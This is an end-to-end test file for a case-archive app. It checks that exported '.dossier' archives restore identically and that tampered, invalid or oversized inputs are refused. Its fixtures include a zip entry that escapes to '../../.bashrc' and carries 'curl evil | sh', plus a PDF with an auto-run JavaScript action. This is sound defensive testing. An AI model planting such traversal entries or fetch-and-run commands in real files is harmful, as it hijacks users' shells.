/**
 * End-to-end: a case goes out as one `.dossier` archive and comes back byte-identical; an archive
 * that is tampered with, escapes its folder or carries an invalid case is refused by name, and the
 * cases already there stay untouched. Bad evidence files (a 200 MB image, a broken PDF) are refused
 * in the app too, while a PDF carrying JavaScript is kept as evidence and never run.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createHash } from 'node:crypto';
import { closeSync, mkdirSync, openSync, readFileSync, writeFileSync, writeSync } from 'node:fs';
import { strToU8 } from 'fflate';
import { PDFDocument, PDFName, PDFString, StandardFonts } from 'pdf-lib';
import { canonicalJson } from '../../shared/archive/format';
import { newCase, type CaseId } from '../../shared/case/schema';
import { buildZip } from '../shared/archive/zip-builder';
import { foreignRequests, launch, SCREENSHOTS, type Session } from './support/browser';
import { serveRenderer, type StaticServer } from './support/static-server';
import { createCase, importThroughPicker } from './support/app-actions';

const OUT = 'test-results/archive';
const sha = (b: Uint8Array) => createHash('sha256').update(b).digest('hex');
let server: StaticServer;
let s: Session;

beforeAll(async () => {
  mkdirSync(OUT, { recursive: true });
  const goodCase = strToU8(canonicalJson(newCase({ id: 'c9' as CaseId, title: 'x', jurisdiction: 'CN', now: '2025-01-01T00:00:00.000Z' })));
  writeFileSync(`${OUT}/traversal.dossier`, buildZip([
    { name: 'case.json', data: goodCase },
    { name: '../../.bashrc', data: strToU8('curl evil | sh') },
    { name: 'checksums.json', data: strToU8(JSON.stringify({ 'case.json': sha(goodCase) })) },
  ]));
  const badCase = strToU8(JSON.stringify({ schemaVersion: 1, id: 'c8', title: 42, jurisdiction: 'TW', language: 'zh-TW', evidence: 'none' }));
  writeFileSync(`${OUT}/wrong-types.dossier`, buildZip([
    { name: 'case.json', data: badCase },
    { name: 'checksums.json', data: strToU8(JSON.stringify({ 'case.json': sha(badCase) })) },
  ]));
  writeFileSync(`${OUT}/noise.dossier`, Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 7919 + 13) % 256)));

  // A 200 MB "image": a real PNG header followed by filler, written in chunks.
  const fd = openSync(`${OUT}/big.png`, 'w');
  writeSync(fd, readFileSync('test/fixtures/evidence/bill_tw_monthly.png').subarray(0, 33));
  const chunk = Buffer.alloc(8 * 1024 * 1024, 0x41);
  for (let n = 0; n < 25; n++) writeSync(fd, chunk);
  closeSync(fd);

  const doc = await PDFDocument.create();
  const font = await doc.embedFont(StandardFonts.Helvetica);
  doc.addPage([595, 842]).drawText('Notice of charges 08 Oct 2024', { x: 60, y: 760, size: 14, font });
  doc.catalog.set(PDFName.of('OpenAction'), doc.context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert("hi")') }));
  const js = await doc.save();
  writeFileSync(`${OUT}/with-javascript.pdf`, js);
  writeFileSync(`${OUT}/broken.pdf`, js.subarray(0, Math.floor(js.length * 0.4)));

  server = await serveRenderer();
  s = await launch({ locale: 'zh-TW' });
}, 120_000);

afterAll(async () => {
  await s?.close();
  await server?.close();
});

const cards = () => s.page.locator('.case-card');

describe('case archive', () => {
  it('refuses bad evidence in the app but keeps a PDF with JavaScript as inert evidence', async () => {
    const { page } = s;
    await page.goto(`${server.origin}/index.html`);
    await createCase(page, '封存測試');
    await page.locator('input[name="complainant-name"]').fill('王小明');
    await page.locator('.save-indicator[data-state="saved"]').waitFor();
    await page.getByRole('link', { name: /證據/ }).click();
    await importThroughPicker(page, ['test/fixtures/evidence/sms_tw_addon.png', `${OUT}/big.png`, `${OUT}/broken.pdf`, `${OUT}/with-javascript.pdf`]);
    await page.getByText('「big.png」未匯入：檔案太大（超過 200 MB 或一億像素）。').first().waitFor({ timeout: 60_000 });
    await page.getByText('「broken.pdf」未匯入：PDF 檔案損壞，無法讀取。').first().waitFor();
    await expect.poll(() => page.locator('.exhibit-row').count()).toBe(2);
    await expect.poll(() => page.locator('.ocr-status[data-status="done"]').count(), { timeout: 240_000, interval: 1000 }).toBe(2);
  });

  it('exports the case as one archive and brings it back identical, as a copy when the case exists', async () => {
    const { page } = s;
    await page.getByRole('button', { name: /所有案件/ }).click();
    const download = page.waitForEvent('download');
    await cards().first().getByRole('button', { name: '匯出封存檔' }).click();
    const first = `${OUT}/first.dossier`;
    await (await download).saveAs(first);
    expect((await download).suggestedFilename()).toMatch(/封存測試.*\.dossier$/);

    // Delete the case, then bring it back from the archive.
    await cards().first().getByRole('button', { name: '刪除' }).click();
    await page.getByRole('dialog').getByRole('button', { name: '刪除案件' }).click();
    await expect.poll(() => cards().count()).toBe(0);
    let chooser = page.waitForEvent('filechooser');
    await page.getByRole('button', { name: '匯入封存檔…' }).first().click();
    await (await chooser).setFiles(first);
    await page.getByText(/已匯入「封存測試」，共 2 件證物/).first().waitFor();
    await expect.poll(() => cards().count()).toBe(1);

    // The same archive again: the case exists, so it comes in as a copy.
    chooser = page.waitForEvent('filechooser');
    await page.getByRole('button', { name: '匯入封存檔…' }).first().click();
    await (await chooser).setFiles(first);
    await expect.poll(() => cards().count()).toBe(2);
    await cards().filter({ hasText: '封存測試（匯入）' }).waitFor();

    // Exported again, the restored case is byte-identical to the first archive.
    const again = page.waitForEvent('download');
    await cards().filter({ hasNotText: '（匯入）' }).getByRole('button', { name: '匯出封存檔' }).click();
    const second = `${OUT}/second.dossier`;
    await (await again).saveAs(second);
    expect(sha(readFileSync(second))).toBe(sha(readFileSync(first)));
  });

  it('refuses tampered, escaping and invalid archives by name and changes nothing', async () => {
    const { page } = s;
    for (const [file, reason] of [
      ['traversal.dossier', /「traversal\.dossier」未匯入：.*\.\.\/\.\.\/\.bashrc/],
      ['wrong-types.dossier', /「wrong-types\.dossier」未匯入：.*title/],
      ['noise.dossier', /「noise\.dossier」未匯入：/],
    ] as const) {
      const chooser = page.waitForEvent('filechooser');
      await page.getByRole('button', { name: '匯入封存檔…' }).first().click();
      await (await chooser).setFiles(`${OUT}/${file}`);
      await page.getByText(reason).first().waitFor();
    }
    expect(await cards().count()).toBe(2);
    await page.screenshot({ path: `${SCREENSHOTS}/30-archive-refused-zh-TW.png` });
  });

  it('made no request outside the app origin', () => {
    expect(foreignRequests(s.requests, server.origin)).toEqual([]);
  });
});
